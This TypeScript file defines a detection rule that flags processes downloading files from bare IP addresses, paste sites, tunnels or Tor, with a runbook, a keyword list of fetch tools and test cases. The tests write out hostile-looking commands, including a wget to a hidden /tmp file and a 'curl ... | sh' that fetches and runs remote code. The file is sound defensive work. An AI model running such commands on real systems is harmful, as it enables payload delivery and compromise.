import { fetchedAddresses } from '../../src/detect/reading/fetched-addresses.ts'
import {
  asTyped,
  isProgramStart,
  mentions,
  PROGRAM_START_TABLES,
  shortened,
  toldProgram,
} from '../../src/detect/reading/program-start.ts'
import { runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { anyOf } from '../../src/detect/reading/words.ts'
import { joining, rule, table } from '../../src/detect/rule.ts'
import { isOddSource } from '../data/fetch-sources.ts'

/** Asked first: almost no line holds any of it, and reading one as a shell does costs fifty times as much. */
const FETCHERS = anyOf('curl', 'wget', 'aria2c', 'lwp-', 'fetch')

export default rule({
  id: 'posix.fetches-from-odd-source',
  title: 'File is fetched from a place without a name',
  severity: 'medium',
  on: joining(table(...PROGRAM_START_TABLES), 'parent_path'),
  attack: ['T1105'],
  dedup: ({ hostId, columns }) => `${hostId} ${oddHost(columns.cmdline)}`,
  detect: ({ columns }) =>
    isProgramStart(columns) && mentions(columns.cmdline, FETCHERS) && oddHost(columns.cmdline) !== '',
  // It is run at once: that is another rule's, and worse.
  exclude: ({ columns }) => runsFetchedCode(asTyped(columns.cmdline)),
  alertTitle: ({ host, columns }) =>
    `${host} fetches from ${oddHost(columns.cmdline)}: ${shortened(columns.cmdline)}`,
  context: ({ columns }) => toldProgram(columns),
  means:
    'A tool fetched a file from a bare address on the internet, a paste or drop site, a tunnel or Tor. Software does not come from there; tools of intruders do.',
  check:
    "SELECT time, pid, parent, path, cmdline, cwd, auid FROM process_events WHERE cmdline LIKE '%curl%' OR cmdline LIKE '%wget%' ORDER BY time DESC LIMIT 50;",
  benign: 'Servers of your own that have no name, developers who share a file or a tunnel.',
  runbook:
    'Whose address is it, and who ran the command (auid, parent)? If nobody knows: keep the file that came (folder, -o, -O), see whether it was run, and look for the address on all hosts.',
  references: ['https://attack.mitre.org/techniques/T1105/'],
  tests: [
    {
      name: 'a file from a bare address',
      match: true,
      table: 'process_events',
      columns: {
        path: '/usr/bin/wget',
        cmdline: 'wget -q http://198.51.100.7:8000/x86_64 -O /tmp/.a',
        pid: '7',
      },
      title: 'test-host fetches from 198.51.100.7: wget -q http://198.51.100.7:8000/x86_64 -O /tmp/.a',
      dedup: 'test-host-id 198.51.100.7',
      severity: 'medium',
    },
    {
      name: 'a paste',
      match: true,
      table: 'bpf_process_events',
      columns: { cmdline: 'curl -s https://pastebin.com/raw/abc' },
    },
    {
      name: 'a tunnel, on a Mac',
      match: true,
      table: 'es_process_events',
      columns: { event_type: 'exec', cmdline: 'curl https://ab-cd.trycloudflare.com/a.dmg -o /tmp/a.dmg' },
    },
    {
      name: 'over IPv6',
      match: true,
      table: 'process_events',
      columns: { cmdline: 'curl -g http://[2001:db8::7]/a -o a' },
    },
    {
      name: 'run at once',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'sh -c curl http://198.51.100.7/a | sh' },
    },
    {
      name: 'whether it is alive',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl -fsS http://198.51.100.7/' },
    },
    {
      name: 'a host of our own',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl http://10.0.0.9:8080/a.jar -o a.jar' },
    },
    {
      name: 'names over HTTPS',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'curl https://1.1.1.1/dns-query?name=example.com' },
    },
    {
      name: 'software by its name',
      match: false,
      table: 'process_events',
      columns: { cmdline: 'wget https://downloads.example.com/a.tar.gz' },
    },
    {
      name: 'the process ends',
      match: false,
      table: 'es_process_events',
      columns: { event_type: 'exit', cmdline: 'curl -s https://pastebin.com/raw/abc' },
    },
    {
      name: 'the row leaves the result',
      match: false,
      action: 'removed',
      table: 'process_events',
      columns: { cmdline: 'curl -s https://pastebin.com/raw/abc' },
    },
  ],
})

function oddHost(cmdline: string): string {
  return fetchedAddresses(asTyped(cmdline)).find(isOddSource)?.host ?? ''
}
